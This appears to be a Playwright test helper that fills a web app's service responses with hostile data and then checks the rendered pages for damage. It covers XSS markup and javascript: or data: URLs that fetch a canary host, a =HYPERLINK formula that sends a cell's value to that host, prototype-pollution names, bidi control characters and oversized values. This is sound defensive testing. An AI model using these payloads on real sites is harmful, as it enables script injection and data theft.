// Makes the services answer with hostile data: every text in every answer replaced, but for the few that lead from one page
// to the next.
import { expect, type Locator, type Page, type Route } from '@playwright/test';

import { FAILED, filled } from './hostile-members.ts';

/** What nothing may be asked of. */
export const ELSEWHERE = 'canary.invalid';

const SCRIPT = `window.canaryRan=1;fetch("https://${ELSEWHERE}/")`;
const MARKUP =
  `"'><img src="https://${ELSEWHERE}/i.png" onerror='${SCRIPT}'><svg onload='${SCRIPT}'></svg><script>${SCRIPT}</script>` +
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe><a href="javascript:${SCRIPT}">x</a>{{7*7}}\${7*7}&lt;b&gt;</textarea></title><!--`;

export interface Dish {
  /** In every text; the place is the call and the path of the member in its answer, the same for every row of a list. */
  text: (before: string, place?: string) => string;
  /** As every name in the objects whose names are free. */
  name?: (before: string, place?: string) => string;
  /** In place of every number that is no id. */
  number?: (before: number) => string;
  /** Changes the whole body once more. */
  body?: (text: string) => string;
  /** What is looked for in the page; the text itself where it is not said. */
  shown?: string | RegExp | null;
  /** Whose turn it is, where not every text of an answer can be spoilt at once. */
  turns?: Turns;
}

/** Right-to-left override, isolates that do not end, marks without width, letters under a pile of marks, a null, an escape. */
export const MARKS = `\u202Eevil\u2066\u2067\u200B\u200D\uFEFF${'e' + '\u0301\u0334\u0489'.repeat(40)}\u0000\u001B[31m\u0007\uFFFF`;

/** Tells where such a text ends. */
export const END = '\u27E7';

/** Names that an object has by itself, or that a page uses. */
const INHERITED = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'app', 'recovery', 'switchboard', 'main'];

const inherited = (before: string): string => {
  const sum = [...before].reduce((sum, character) => sum + character.codePointAt(0)!, 0);
  return INHERITED[sum % INHERITED.length]!;
};

/** A few texts of each answer have a megabyte, and each has its turn: an answer above eight megabytes is refused as a whole. */
class Turns {
  private static readonly IN_AN_ANSWER = 6;
  private readonly waiting = new Set<string>();
  private readonly had = new Set<string>();
  private left = 0;

  /** Another walk begins. */
  begin(): void {
    this.waiting.clear();
    this.had.clear();
  }

  /** Another answer is written. */
  answer(): void {
    this.left = Turns.IN_AN_ANSWER;
  }

  /** Whether the text at that place has its turn now: the first time that there is room for it. */
  take(place: string): boolean {
    if (this.had.has(place)) return false;
    if (this.left === 0) {
      this.waiting.add(place);
      return false;
    }
    this.left -= 1;
    this.waiting.delete(place);
    this.had.add(place);
    return true;
  }

  /** The places that never had their turn. */
  get without(): string[] {
    return [...this.waiting].sort();
  }

  /** The places whose text stands in one of these. */
  shownIn(texts: readonly string[]): string[] {
    return [...this.had].filter((place) => texts.some((text) => text.includes(beginning(place)))).sort();
  }
}

const turns = new Turns();

/** What a text of a megabyte begins with. */
const LONG = 'canary-long';
const beginning = (place: string): string => `${LONG} [${place}]`;

const long = (before: string, place?: string): string =>
  place !== undefined && turns.take(place) ? `${beginning(place)}${before}${'x'.repeat(1_000_000)}` : `${LONG} ${before}${'y'.repeat(3_000)}`;

export const DISHES: Record<string, Dish> = {
  'markup and script': { text: (before) => `${MARKUP}${before}`, name: (before) => `${MARKUP}${before}` },
  'an address that is a script': { text: () => `javascript:${SCRIPT}` },
  'an address that is a document': { text: () => `data:text/html,<script>${encodeURIComponent(SCRIPT)}</script>` },
  'an address elsewhere': { text: () => `https://${ELSEWHERE}/a?b=<c>` },
  'controls, and marks that change direction': { text: (before) => `${MARKS}${before}${END}`, name: (before) => `${MARKS}${before}${END}`, shown: 'evil' },
  'formulas': { text: (before) => `=HYPERLINK("https://${ELSEWHERE}/?"&A1,"${before.slice(0, 8)}")`, name: (before) => `=${before}`, shown: `=HYPERLINK("https://${ELSEWHERE}/?"&A1,` },
  'names that every object has': { text: inherited, name: inherited, shown: new RegExp(INHERITED.join('|')) },
  'a name of a megabyte': { text: long, name: long, shown: LONG, turns },
  'members twice': {
    text: (before) => `twice ${before}`,
    body: (text) => text.replace(/"(name|uid|id|status|items|parameters)":/g, '"$1":"canary-first","$1":'),
  },
  'huge numbers': { text: (before) => before, number: (before) => ['1e308', '-1e308', '99999999999999999999999', '-9007199254740993', '0.1e-300'][Math.abs(before) % 5]!, shown: null },
  'deep nesting': { text: () => '', shown: null },
};

/** Members that pages are found by, that say which form an answer has, or on which rights depend: they stay. */
export const KEPT = ['uid', 'id', 'UmpCustomerGuid', 'token_type'];

/** Objects whose names are free. */
const FREE = ['parameters', 'types'];

/** Objects whose members are all alike. */
const ALIKE = [...FREE, 'picture'];

/** Answers as a whole that stay: rights are names of what is allowed, and a task's id is a bare text. */
const KEPT_CALLS = /\/(users\/rights|action\/ovocimport|oauth\/expire)$/;

/** Writes a value as JSON text, spoilt. By hand: an object of JavaScript cannot have every name, nor one twice. */
function served(value: unknown, dish: Dish, name: string, place: string): string {
  if (typeof value === 'string') return KEPT.includes(name) ? JSON.stringify(value) : spoilt(value, dish, name, place);
  if (typeof value === 'number') return dish.number && !/id$/i.test(name) ? dish.number(value) : JSON.stringify(value);
  if (Array.isArray(value)) return `[${value.map((item) => served(item, dish, name, `${place}[]`)).join(',')}]`;
  if (value === null || typeof value !== 'object') return JSON.stringify(value);
  const rename = FREE.includes(name) && dish.name ? dish.name : (own: string) => own;
  const members = Object.entries(value).map(([own, inner]) => {
    const where = `${place}.${ALIKE.includes(name) ? '*' : own}`;
    return `${JSON.stringify(rename(own, `${where} as a name`))}:${served(inner, dish, own, where)}`;
  });
  return `{${members.join(',')}}`;
}

function spoilt(text: string, dish: Dish, name: string, place: string): string {
  // A status that is not known means that the task goes on: the ended one goes on saying so, before anything else.
  const ended = name === 'status' && text === FAILED;
  if (dish !== DISHES['deep nesting']) return JSON.stringify(`${ended ? `${text} ` : ''}${dish.text(text, place)}`);
  return ended ? JSON.stringify(text) : `${'['.repeat(60)}${JSON.stringify(text)}${']'.repeat(60)}`;
}

/** A call without what is different each time: ids and the query. */
const callOf = (path: string): string => path.replace(/\/(\d+|[0-9a-f]{32}|[0-9a-f]{8}-[0-9a-f-]{27}|tsk_\d+)(?=\/|$)/g, '/*');

/** Has every service answer so in this page, whatever it is asked; one task may have ended. */
export async function serve(page: Page, dish: Dish, ended?: string): Promise<void> {
  dish.turns?.begin();
  await page.route(/\/(optconnect|live-platform|airvantage)\/.*/, async (route: Route) => {
    const path = new URL(route.request().url()).pathname;
    if (KEPT_CALLS.test(path)) return route.continue();
    const response = await route.fetch();
    const text = await response.text();
    dish.turns?.answer();
    const body = text === '' ? '' : served(filled(path, JSON.parse(text), ended), dish, '', callOf(path));
    await route.fulfill({ response, body: dish.body ? dish.body(body) : body });
  });
}

/** What a hostile text may have made of a page: elements, addresses, events. */
export async function expectHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const ids = Array.from(document.querySelectorAll('[id]'), ({ id }) => id);
    const events = Array.from(document.querySelectorAll('*')).flatMap((element) =>
      element.getAttributeNames().filter((name) => /^on|^srcdoc$|^style$/.test(name) && !(name === 'style' && element.closest('#app'))),
    );
    const links = Array.from(document.querySelectorAll<HTMLAnchorElement>('a[href]'), (link) => ({
      address: link.href,
      outside: link.origin !== location.origin,
      relation: link.relList.contains('noopener') && link.target === '_blank',
    }));
    return {
      ran: 'canaryRan' in window,
      elements: Array.from(document.body.querySelectorAll('img, iframe, object, embed, script:not([data-wasm]), base, meta, link, style'), (element) => element.outerHTML),
      events,
      twice: ids.filter((id, place) => ids.indexOf(id) !== place),
      links: links.filter(({ address, outside, relation }) => outside && !(address.startsWith('https://') && relation)).map(({ address }) => address),
    };
  });
  expect(found, where).toEqual({ ran: false, elements: [], events: [], twice: [], links: [] });
}

/** By how much the page is wider than the window, and the last of its parts that stick out; empty where all fits. */
export const stickingOut = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const root = document.documentElement;
    if (root.scrollWidth <= root.clientWidth) return [];
    const wide = Array.from(document.body.querySelectorAll('*')).filter((element) => element.getBoundingClientRect().right > root.clientWidth + 0.5);
    return [`${root.scrollWidth - root.clientWidth} px`, ...wide.slice(-4).map((element) => `${element.tagName} ${element.getAttribute('class')}`)];
  });

/** Nothing reaches beyond the window, wide or narrow. */
export async function expectFits(page: Page, where: string, widths = [390, 1440]): Promise<void> {
  for (const width of widths) {
    await page.setViewportSize({ width, height: 900 });
    expect.soft(await stickingOut(page), `${where}, ${width} wide`).toEqual([]);
  }
}

/** Everything that the page can show: its texts, and the values of its fields. */
export const wordsOf = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const fields = Array.from(document.querySelectorAll<HTMLInputElement>('input, textarea, option'), ({ value }) => value);
    return [document.querySelector('main')!.textContent, ...fields].join('\n');
  });

/** Words that stand in one paragraph behind a text that turns the direction round and is not set apart: they are flipped. */
export const flipped = (main: Locator): Promise<string[]> =>
  main.evaluate((root, end) => {
    const found: string[] = [];
    const texts = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    while (texts.nextNode()) {
      const node = texts.currentNode as Text;
      const at = node.data.indexOf('\u202E');
      if (at < 0) continue;
      let box = node.parentElement!;
      const apart = (element: Element) => {
        const { display, unicodeBidi } = getComputedStyle(element);
        return !/^(inline|contents)/.test(display) || /isolate|plaintext/.test(unicodeBidi);
      };
      while (!apart(box)) box = box.parentElement!;
      const range = document.createRange();
      range.selectNodeContents(box);
      range.setStart(node, at);
      const [, ...after] = range.toString().split(end);
      if (/[\p{L}\p{N}]/u.test(after.join(''))) found.push(`${box.tagName} ${box.getAttribute('class')}: …${after.join(end).slice(0, 60)}`);
    }
    return found;
  }, END);
